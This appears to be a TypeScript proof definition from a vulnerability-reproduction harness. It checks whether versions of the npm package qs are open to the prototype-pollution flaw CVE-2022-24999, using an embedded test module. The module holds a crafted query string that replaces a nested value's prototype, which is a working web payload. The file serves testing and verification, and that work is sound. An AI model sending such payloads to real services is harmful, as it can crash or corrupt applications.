import { defineProof } from '../define-proof.ts';

/** Parses parameters that replace the prototype of a nested value and looks at that prototype. */
export const qsProto = defineProof({
  name: 'qs-proto',
  ids: ['CVE-2022-24999', 'GHSA-hrpp-h998-j3pp'],
  ecosystem: 'npm',
  package: 'qs',
  kind: 'parser_acceptance',
  describes: 'Parses parameters that replace the prototype of a nested value and looks at that prototype.',
  shownOn: { vulnerable: '6.5.2', fixed: '6.5.3' },
  source: `
module.exports = ({ load }) => {
  const { parse } = load();
  const read = parse('a[__proto__]=b&a[__proto__]&a[length]=42', { allowPrototypes: true });
  const reproduced = Array.isArray(Object.getPrototypeOf(read.a ?? {}));
  return { reproduced, answers: parse('a[b]=2').a.b === '2' };
};
`,
});
